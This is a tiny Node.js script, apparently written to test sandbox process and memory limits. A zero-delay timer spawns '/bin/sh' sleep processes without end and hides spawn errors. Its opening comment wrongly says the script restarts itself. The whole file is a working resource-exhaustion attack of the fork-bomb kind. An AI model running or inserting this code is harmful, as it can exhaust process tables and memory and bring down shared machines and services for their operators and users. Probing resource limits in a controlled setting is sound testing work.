// Starts itself again for ever, each start a whole process with threads. The limits of processes and memory must stop it.
const { spawn } = require('child_process');
setInterval(() => spawn('/bin/sh', ['-c', 'sleep 60']).on('error', () => {}), 0);
